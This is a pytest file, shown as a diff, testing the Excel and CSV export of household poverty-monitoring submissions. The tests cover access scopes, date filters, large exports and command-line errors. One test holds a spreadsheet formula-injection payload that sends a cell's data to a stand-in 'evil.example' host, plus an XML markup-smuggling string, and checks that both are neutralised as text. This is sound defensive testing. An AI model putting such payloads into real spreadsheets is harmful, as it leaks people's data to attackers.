@@ -1,0 +1,542 @@
+"""Exporting submissions to Excel and CSV: what a reviewer may take home, read back cell by cell.
+
+Every test taking `db` runs on SQLite and on PostgreSQL.
+"""
+
+from __future__ import annotations
+
+import csv
+import itertools
+import os
+import subprocess
+import sys
+import time
+import zipfile
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import insert, select, update
+
+from dialogs.engine import format_value
+from dialogs.spec import load_catalog
+from review.access import Scope
+from review.export import (
+    LOCAL_TZ,
+    ExportFilter,
+    export_submissions,
+    history_csv_path,
+)
+from storage.database import open_database
+from storage.models import StatusChange, Submission
+from storage.repository import NewSubmission, SubmissionStore
+from tests.dialog_script import REPORT_ANSWERS
+
+ROOT = Path(__file__).resolve().parent.parent
+CATALOG = load_catalog()
+EVERYTHING = Scope(everything=True)
+_drafts = itertools.count(1)
+
+FIXED_HEADERS = [
+    "编号", "类型", "提交时间", "乡镇（街道）", "村（社区）", "联系人", "联系电话", "家庭人口",
+    "家庭年纯收入（元）", "人均纯收入（元）", "优先级", "优先级理由", "状态", "最后更新", "指派干部",
+]
+SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+HISTORY_HEADERS = ["编号", "时间", "操作人", "原状态", "新状态", "备注"]
+
+VISIT_ANSWERS = {
+    "consent": True,
+    "head_name": "李四",
+    "township": "狸桥镇",
+    "village": "东风村",
+    "household_size": 3,
+    "annual_income": 18000,
+    "medical_expense": 20000,
+    "education_expense": 0,
+    "other_expense": 0,
+    "causes": ["因病"],
+    "child_out_of_school": False,
+    "no_medical_insurance": False,
+    "unsafe_housing": False,
+    "unsafe_water": True,
+    "current_status": "已是监测对象",
+    "assistance_effect": "已落实，效果不明显",
+    "assistance_note": "需要加强就业帮扶",
+    "risk_eliminated": True,
+    "risk_stable": "不稳定，有返贫风险",
+    "major_risks": ["季节性缺水"],
+    "data_quality": "需要更正",
+    "data_corrections": ["收入支出"],
+    "data_correction_note": "2024年务工收入未录入",
+    "new_dibao_or_tekun": False,
+    "no_labor": False,
+    "contact_name": "李四",
+    "phone": "0563-2701280",
+    "visit_note": None,
+}
+
+
+def local(year: int, month: int, day: int, hour: int = 12, minute: int = 0) -> datetime:
+    """A moment given in 北京时间, as the UTC value the database stores."""
+    return datetime(year, month, day, hour, minute, tzinfo=LOCAL_TZ).astimezone(UTC)
+
+
+def submit(
+    db,
+    township: str | None,
+    *,
+    dialog: str = "report",
+    answers: dict | None = None,
+    created: datetime | None = None,
+    submitted_by: int = 100,
+    contact_name: str | None = "张三",
+    status: str | None = None,
+    assigned_to: int | None = None,
+) -> str:
+    answers = dict(answers if answers is not None else REPORT_ANSWERS)
+    answers["township"] = township
+    reference, created_now = SubmissionStore(db).submit(
+        NewSubmission(
+            dialog=dialog,
+            draft_id=f"x{next(_drafts):08d}",
+            submitted_by=submitted_by,
+            answers=answers,
+            township=township,
+            village=answers.get("village"),
+            contact_name=contact_name,
+            phone=answers.get("phone"),
+            household_size=answers.get("household_size"),
+            annual_income=answers.get("annual_income"),
+            per_capita_income=(answers.get("annual_income") or 0) // (answers.get("household_size") or 1),
+            priority="高",
+            priority_reasons=["人均纯收入低于监测线", "住房安全有隐患"],
+        )
+    )
+    assert created_now
+    changes = {}
+    if created is not None:
+        changes.update(created_at=created, updated_at=created)
+    if status is not None:
+        changes["status"] = status
+    if assigned_to is not None:
+        changes["assigned_to"] = assigned_to
+    if changes:
+        with db.session() as session:
+            session.execute(update(Submission).where(Submission.reference == reference).values(**changes))
+    return reference
+
+
+def change_status(db, reference: str, to_status: str, at: datetime, note: str = "", by: int = 9001) -> None:
+    with db.session() as session:
+        submission = session.scalar(select(Submission).where(Submission.reference == reference))
+        session.add(
+            StatusChange(
+                submission_id=submission.id,
+                changed_by=by,
+                changed_at=at,
+                from_status=submission.status,
+                to_status=to_status,
+                note=note,
+            )
+        )
+        submission.status = to_status
+        submission.updated_at = at
+
+
+def read_xlsx(path: Path) -> dict[str, list[tuple]]:
+    book = load_workbook(path, read_only=True)
+    try:
+        return {sheet.title: [tuple(row) for row in sheet.iter_rows(values_only=True)] for sheet in book}
+    finally:
+        book.close()
+
+
+def as_dicts(rows: list[tuple]) -> list[dict]:
+    header, *body = rows
+    return [dict(zip(header, row, strict=True)) for row in body]
+
+
+def first_column_of_sheet(path: Path, member: str) -> list[str]:
+    """The text of every row's first cell, scanning the sheet's XML as a stream."""
+    values = []
+    with zipfile.ZipFile(path) as archive, archive.open(member) as xml:
+        for _event, element in ElementTree.iterparse(xml):
+            if element.tag == f"{SHEET_NS}row":
+                values.append("".join(element.find(f"{SHEET_NS}c").itertext()))
+                element.clear()
+    return values
+
+
+def answer_label_of(key: str) -> str:
+    for dialog in CATALOG.dialogs.values():
+        for step in dialog.steps:
+            if step.key == key:
+                return step.label
+    raise KeyError(key)
+
+
+def expected_answer(dialog: str, key: str, value):
+    if value is None:
+        return None
+    if isinstance(value, int) and not isinstance(value, bool):
+        return value
+    return format_value(CATALOG.dialogs[dialog].step(key), value)
+
+
+def to_local_minute(moment: datetime) -> datetime:
+    if moment.tzinfo is None:
+        moment = moment.replace(tzinfo=UTC)
+    return moment.astimezone(LOCAL_TZ).replace(tzinfo=None, second=0, microsecond=0)
+
+
+def export(db, tmp_path, filters: ExportFilter, fmt: str = "xlsx", name: str = "导出") -> tuple[Path, int]:
+    out = tmp_path / f"{name}.{fmt}"
+    return out, export_submissions(db, CATALOG, filters, out, fmt)
+
+
+# --- what is exported, and that it is what the database holds --------------------------------
+
+
+def test_a_reviewer_exports_only_their_townships_and_reads_the_same_data_back(db, tmp_path):
+    shuiyang = submit(db, "水阳镇", created=local(2024, 6, 3, 9, 15), assigned_to=8_123_456_789)
+    liqiao = submit(db, "狸桥镇", dialog="visit", answers=VISIT_ANSWERS, contact_name="李四",
+                    created=local(2024, 6, 4, 16, 40))
+    elsewhere = submit(db, "孙埠镇", created=local(2024, 6, 5))
+    change_status(db, liqiao, "核实中", local(2024, 6, 6, 8, 0), note="已电话联系")
+    change_status(db, shuiyang, "核实中", local(2024, 6, 7, 10, 0), note="安排入户")
+    change_status(db, elsewhere, "核实中", local(2024, 6, 7, 11, 0), note="其他乡镇，不应导出")
+    change_status(db, shuiyang, "已纳入监测", local(2024, 6, 9, 14, 30), note="经村民代表评议")
+
+    reviewer = Scope(townships=frozenset({"水阳镇", "狸桥镇"}))
+    out, count = export(db, tmp_path, ExportFilter(reviewer))
+
+    assert count == 2
+    sheets = read_xlsx(out)
+    assert list(sheets) == ["申报记录", "状态记录"]
+    header = list(sheets["申报记录"][0])
+    assert header[: len(FIXED_HEADERS)] == FIXED_HEADERS
+    answer_headers = header[len(FIXED_HEADERS):]
+    # One column per answer of either dialog, in catalog order; nothing twice, no consent.
+    assert answer_headers[:3] == ["乡镇（街道）名称", "医疗支出（元）", "教育支出（元）"]
+    assert "户主姓名" in answer_headers and "走访备注" in answer_headers
+    assert "方便接电话的时间" in answer_headers
+    assert not {"同意提供信息", "农户同意记录", "联系人", "家庭人口"} & set(answer_headers)
+    assert len(set(header)) == len(header)
+
+    rows = as_dicts(sheets["申报记录"])
+    assert [r["编号"] for r in rows] == [shuiyang, liqiao]
+    with db.session() as session:
+        stored = {
+            s.reference: s
+            for s in session.scalars(select(Submission).where(Submission.reference.in_([shuiyang, liqiao])))
+        }
+    for row in rows:
+        submission = stored[row["编号"]]
+        assert row["类型"] == CATALOG.dialogs[submission.dialog].title
+        assert row["提交时间"] == to_local_minute(submission.created_at)
+        assert row["最后更新"] == to_local_minute(submission.updated_at)
+        assert row["乡镇（街道）"] == submission.township
+        assert row["村（社区）"] == submission.village
+        assert row["联系人"] == submission.contact_name
+        assert row["联系电话"] == submission.phone
+        assert row["家庭人口"] == submission.household_size
+        assert row["家庭年纯收入（元）"] == submission.annual_income
+        assert row["人均纯收入（元）"] == submission.per_capita_income
+        assert row["优先级"] == submission.priority
+        assert row["优先级理由"] == "人均纯收入低于监测线；住房安全有隐患"
+        assert row["状态"] == submission.status
+        for key, value in submission.answers.items():
+            if key in {"consent", "township", "village", "contact_name", "phone",
+                       "household_size", "annual_income"}:
+                continue
+            assert row[answer_label_of(key)] == expected_answer(submission.dialog, key, value), key
+
+    report, visit = rows
+    assert report["类型"] == "困难申报" and visit["类型"] == "入户走访记录"
+    assert report["提交时间"] == datetime(2024, 6, 3, 9, 15)  # 北京时间, not UTC
+    assert report["状态"] == "已纳入监测" and visit["状态"] == "核实中"
+    assert report["指派干部"] == "8123456789" and visit["指派干部"] is None
+    assert report["家庭年纯收入（元）"] == 32000 and report["人均纯收入（元）"] == 8000
+    assert report["医疗支出（元）"] == 8000  # a number, not "8,000"
+    assert report["其他大额必要支出（元）"] == 0
+    assert report["教育支出（元）"] is None and report["情况说明"] is None
+    assert report["困难原因"] == "因病、缺劳动力"
+    assert report["住房存在安全隐患"] == "是" and report["饮水困难或不安全"] == "否"
+    assert report["户主姓名"] is None  # a visit-only question
+    assert visit["户主姓名"] == "李四" and visit["面临的重大风险隐患"] == "季节性缺水"
+    assert visit["已标注“风险消除”"] == "是" and visit["方便接电话的时间"] is None
+
+    history = as_dicts(sheets["状态记录"])
+    assert list(sheets["状态记录"][0]) == HISTORY_HEADERS
+    assert [(h["编号"], h["新状态"]) for h in history] == [
+        (shuiyang, "核实中"), (shuiyang, "已纳入监测"), (liqiao, "核实中"),
+    ]
+    first = history[0]
+    assert first["时间"] == datetime(2024, 6, 7, 10, 0)
+    assert first["操作人"] == "9001" and first["原状态"] == "待核实" and first["备注"] == "安排入户"
+    assert "其他乡镇，不应导出" not in {h["备注"] for h in history}
+
+
+def test_the_workbook_has_a_bold_frozen_header_and_readable_column_widths(db, tmp_path):
+    submit(db, "水阳镇")
+    out, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
+    book = load_workbook(out)
+    sheet = book["申报记录"]
+    assert sheet.freeze_panes == "A2"
+    assert all(cell.font.bold for cell in sheet[1])
+    assert sheet.column_dimensions["A"].width >= 10
+    assert sheet.column_dimensions["L"].width >= 30  # 优先级理由
+    assert book["状态记录"].freeze_panes == "A2"
+    assert sheet["C2"].number_format == "yyyy-mm-dd hh:mm"
+
+
+def test_township_and_local_date_range_narrow_the_export(db, tmp_path):
+    just_before = submit(db, "水阳镇", created=local(2024, 5, 31, 23, 50))
+    first_minute = submit(db, "水阳镇", created=local(2024, 6, 1, 0, 30))  # 2024-05-31 in UTC
+    other_township = submit(db, "水东镇", created=local(2024, 6, 10))
+    last_minute = submit(db, "水阳镇", created=local(2024, 6, 30, 23, 59))
+    next_month = submit(db, "水阳镇", created=local(2024, 7, 1, 0, 0))
+
+    june = ExportFilter(EVERYTHING, since=date(2024, 6, 1), until=date(2024, 6, 30))
+    out, count = export(db, tmp_path, june, name="june")
+    rows = as_dicts(read_xlsx(out)["申报记录"])
+    assert count == 3
+    assert [r["编号"] for r in rows] == [first_minute, other_township, last_minute]
+    assert rows[0]["提交时间"] == datetime(2024, 6, 1, 0, 30)
+
+    out, count = export(db, tmp_path, ExportFilter(EVERYTHING, township="水阳镇", since=date(2024, 6, 1)),
+                        name="shuiyang")
+    assert [r["编号"] for r in as_dicts(read_xlsx(out)["申报记录"])] == [first_minute, last_minute, next_month]
+
+    out, count = export(db, tmp_path, ExportFilter(EVERYTHING, until=date(2024, 5, 31)), name="may")
+    assert [r["编号"] for r in as_dicts(read_xlsx(out)["申报记录"])] == [just_before]
+
+    # A township filter never widens a scope: a reviewer of 水东镇 asking for 水阳镇 gets nothing.
+    narrow = ExportFilter(Scope(townships=frozenset({"水东镇"})), township="水阳镇")
+    out, count = export(db, tmp_path, narrow, name="nothing")
+    assert count == 0
+    assert len(read_xlsx(out)["申报记录"]) == 1  # the header only
+
+
+def test_a_cadre_exports_the_households_they_recorded_and_a_stranger_nothing(db, tmp_path):
+    mine = submit(db, "狸桥镇", dialog="visit", answers=VISIT_ANSWERS, submitted_by=555)
+    theirs = submit(db, "狸桥镇", dialog="visit", answers=VISIT_ANSWERS, submitted_by=556)
+    change_status(db, theirs, "核实中", local(2024, 6, 6))
+
+    out, count = export(db, tmp_path, ExportFilter(Scope(recorded_by=555)), name="cadre")
+    sheets = read_xlsx(out)
+    assert count == 1
+    assert [r["编号"] for r in as_dicts(sheets["申报记录"])] == [mine]
+    assert sheets["状态记录"] == [tuple(HISTORY_HEADERS)]
+
+    out, count = export(db, tmp_path, ExportFilter(Scope()), name="stranger")
+    assert count == 0
+    assert len(read_xlsx(out)["申报记录"]) == 1  # the header only
+
+
+def test_the_csv_export_opens_in_excel_and_says_what_the_workbook_says(db, tmp_path):
+    first = submit(db, "水阳镇", created=local(2024, 6, 3, 9, 15))
+    second = submit(db, "狸桥镇", dialog="visit", answers=VISIT_ANSWERS, created=local(2024, 6, 4))
+    change_status(db, first, "核实中", local(2024, 6, 5, 10, 0), note="已联系，本周入户")
+    change_status(db, second, "不予纳入", local(2024, 6, 6, 10, 0), note="收入高于监测线")
+
+    xlsx, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
+    out, count = export(db, tmp_path, ExportFilter(EVERYTHING), fmt="csv")
+    history_path = history_csv_path(out)
+    assert count == 2
+    assert history_path == tmp_path / "导出_状态记录.csv"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["导出.csv", "导出.xlsx", "导出_状态记录.csv"]
+    for path in (out, history_path):
+        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
+
+    def read_csv(path: Path) -> list[list[str]]:
+        with path.open(encoding="utf-8-sig", newline="") as f:
+            return list(csv.reader(f))
+
+    def as_text(value) -> str:
+        if value is None:
+            return ""
+        if isinstance(value, datetime):
+            return value.strftime("%Y-%m-%d %H:%M")
+        return str(value)
+
+    workbook = read_xlsx(xlsx)
+    for path, sheet in ((out, "申报记录"), (history_path, "状态记录")):
+        assert read_csv(path) == [[as_text(v) for v in row] for row in workbook[sheet]]
+    rows = read_csv(out)
+    assert rows[1][:5] == [first, "困难申报", "2024-06-03 09:15", "水阳镇", "红星村"]
+    assert read_csv(history_path)[2] == [second, "2024-06-06 10:00", "9001", "待核实", "不予纳入", "收入高于监测线"]
+
+
+def test_text_that_looks_like_a_formula_stays_text(db, tmp_path):
+    attack = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")'
+    answers = dict(REPORT_ANSWERS, description="+86 电话联系；@村委会", causes_other="-1+1")
+    reference = submit(db, "水阳镇", answers=answers, contact_name=attack)
+    change_status(db, reference, "核实中", local(2024, 6, 5), note="=1+1")
+    markup = submit(db, "水阳镇", contact_name="<r>李</r>",
+                    answers=dict(REPORT_ANSWERS, description='<r><t>x</t></r></is></c><c r="A9"><f>1+1</f></c><is><r>'))
+
+    xlsx, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
+    book = load_workbook(xlsx)
+    sheet = book["申报记录"]
+    headers = [c.value for c in sheet[1]]
+    name = sheet.cell(row=2, column=headers.index("联系人") + 1)
+    assert name.value == attack and name.data_type == "s"
+    description = sheet.cell(row=2, column=headers.index("情况说明") + 1)
+    assert description.value == "+86 电话联系；@村委会" and description.data_type == "s"
+    note = book["状态记录"]["F2"]
+    assert note.value == "=1+1" and note.data_type == "s"
+    assert not any(cell.data_type == "f" for ws in book for row in ws.iter_rows() for cell in row)
+    # Text shaped like xlsxwriter's pre-built rich text is stored as typed, not as markup.
+    third = [c.value for c in sheet[3]]
+    assert third[0] == markup and third[headers.index("联系人")] == "<r>李</r>"
+    assert third[headers.index("情况说明")].startswith("<r><t>x</t></r></is></c>")
+    assert sheet.max_row == 3
+
+    out, _ = export(db, tmp_path, ExportFilter(EVERYTHING), fmt="csv")
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        header, row, _ = list(csv.reader(f))
+    assert row[header.index("联系人")] == "'" + attack
+    assert row[header.index("情况说明")] == "'+86 电话联系；@村委会"
+    assert row[header.index("其他原因")] == "'-1+1"
+    assert row[header.index("联系电话")] == "13812345678"
+    with history_csv_path(out).open(encoding="utf-8-sig", newline="") as f:
+        assert list(csv.reader(f))[1][-1] == "'=1+1"
+
+
+def test_ten_thousand_rows_stream_out_with_progress(db, tmp_path):
+    total = 10_000
+    base = datetime(2024, 6, 1, tzinfo=UTC)
+    rows = [
+        {
+            "reference": f"B{i:07d}",
+            "dialog": "report" if i % 3 else "visit",
+            "draft_id": f"b{i:09d}",
+            "submitted_by": 1000 + i % 50,
+            "township": ("水阳镇", "狸桥镇", "孙埠镇")[i % 3],
+            "village": "红星村",
+            "contact_name": f"户主{i}",
+            "phone": "13812345678",
+            "household_size": 1 + i % 6,
+            "annual_income": 10_000 + i,
+            "per_capita_income": (10_000 + i) // (1 + i % 6),
+            "priority": "一般",
+            "priority_reasons": [],
+            "answers": REPORT_ANSWERS if i % 3 else VISIT_ANSWERS,
+            "status": "待核实",
+            "created_at": base + timedelta(minutes=i),
+            "updated_at": base + timedelta(minutes=i),
+        }
+        for i in range(total)
+    ]
+    with db.session() as session:
+        session.execute(insert(Submission), rows)
+        ids = session.scalars(select(Submission.id).order_by(Submission.id).limit(2)).all()
+        session.execute(insert(StatusChange), [
+            {"submission_id": ids[0], "changed_by": 1, "changed_at": base, "from_status": "待核实",
+             "to_status": "核实中", "note": ""},
+        ])
+
+    seen: list[int] = []
+    out = tmp_path / "big.xlsx"
+    started = time.perf_counter()
+    count = export_submissions(db, CATALOG, ExportFilter(EVERYTHING), out, progress=seen.append)
+    elapsed = time.perf_counter() - started
+
+    assert count == total
+    assert seen == sorted(seen) and seen[-1] == total and len(seen) >= 10
+    book = load_workbook(out, read_only=True)
+    sheet = book["申报记录"]
+    header = next(sheet.iter_rows(max_row=1, values_only=True))
+    assert list(header[: len(FIXED_HEADERS)]) == FIXED_HEADERS
+    assert sheet.max_row == total + 1
+    assert [r[0] for r in book["状态记录"].iter_rows(values_only=True)] == ["编号", "B0000000"]
+    book.close()
+    # Every row really is there, in id order (a raw scan: openpyxl would take seconds).
+    references = first_column_of_sheet(out, "xl/worksheets/sheet1.xml")
+    assert len(references) == total + 1
+    assert references[1] == "B0000000" and references[-1] == f"B{total - 1:07d}"
+    assert references[1:] == sorted(references[1:])
+    assert elapsed < 15, f"exporting {total} rows took {elapsed:.1f} s"
+
+
+def test_a_failed_export_leaves_no_file_behind(db, tmp_path):
+    submit(db, "水阳镇")
+
+    def interrupted(_done: int) -> None:
+        raise KeyboardInterrupt
+
+    for fmt in ("xlsx", "csv"):
+        out = tmp_path / f"half.{fmt}"
+        with pytest.raises(KeyboardInterrupt):
+            export_submissions(db, CATALOG, ExportFilter(EVERYTHING), out, fmt, progress=interrupted)
+    assert list(tmp_path.iterdir()) == []
+    with pytest.raises(ValueError, match="pdf"):
+        export_submissions(db, CATALOG, ExportFilter(EVERYTHING), tmp_path / "x.pdf", "pdf")
+
+
+# --- the command line ---------------------------------------------------------------------------
+
+
+def run_bot(*args: str, database_url: str) -> subprocess.CompletedProcess:
+    environment = {k: v for k, v in os.environ.items() if k not in {"TELEGRAM_TOKEN", "DATABASE_URL"}}
+    environment["DATABASE_URL"] = database_url
+    return subprocess.run(
+        [sys.executable, "bot.py", *args],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env=environment,
+    )
+
+
+def test_the_operator_exports_from_the_command_line(tmp_path):
+    url = f"sqlite:///{tmp_path / 'server.db'}"
+    db = open_database(url)
+    wanted = submit(db, "水阳镇", created=local(2024, 6, 3))
+    submit(db, "水阳镇", created=local(2024, 7, 3))
+    submit(db, "狸桥镇", created=local(2024, 6, 3))
+    db.engine.dispose()
+
+    out = tmp_path / "水阳镇六月.xlsx"
+    result = run_bot("export", "--format", "xlsx", "--out", str(out), "--township", "水阳镇",
+                     "--since", "2024-06-01", "--until", "2024-06-30", database_url=url)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.strip() == f"已导出 1 条记录到 {out}"
+    assert "Traceback" not in result.stderr
+    assert [r["编号"] for r in as_dicts(read_xlsx(out)["申报记录"])] == [wanted]
+
+    out = tmp_path / "全部.csv"
+    result = run_bot("export", "--format", "csv", "--out", str(out), database_url=url)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.strip() == f"已导出 3 条记录到 {out}"
+    assert out.read_bytes().startswith(b"\xef\xbb\xbf") and history_csv_path(out).exists()
+
+
+@pytest.mark.parametrize(
+    ("option", "value"), [("--since", "2024-13-01"), ("--until", "昨天"), ("--since", "2024/06/01")]
+)
+def test_a_bad_date_gets_one_chinese_line_naming_the_option(tmp_path, option, value):
+    out = tmp_path / "x.xlsx"
+    result = run_bot("export", "--format", "xlsx", "--out", str(out), option, value,
+                     database_url=f"sqlite:///{tmp_path / 'server.db'}")
+    assert result.returncode == 2
+    message = result.stderr.strip()
+    assert "\n" not in message and "Traceback" not in message
+    assert option in message and value in message and "日期" in message
+    assert not out.exists()
+
+
+def test_dates_in_the_wrong_order_or_a_missing_folder_are_refused_in_one_line(tmp_path):
+    url = f"sqlite:///{tmp_path / 'server.db'}"
+    backwards = run_bot("export", "--format", "csv", "--out", str(tmp_path / "x.csv"),
+                        "--since", "2024-07-01", "--until", "2024-06-01", database_url=url)
+    nowhere = run_bot("export", "--format", "csv", "--out", str(tmp_path / "no" / "x.csv"),
+                      database_url=url)
+    for result, option in ((backwards, "--since"), (nowhere, "--out")):
+        assert result.returncode == 2
+        assert option in result.stderr and "\n" not in result.stderr.strip()
+    assert sorted(p.name for p in tmp_path.iterdir()) == []
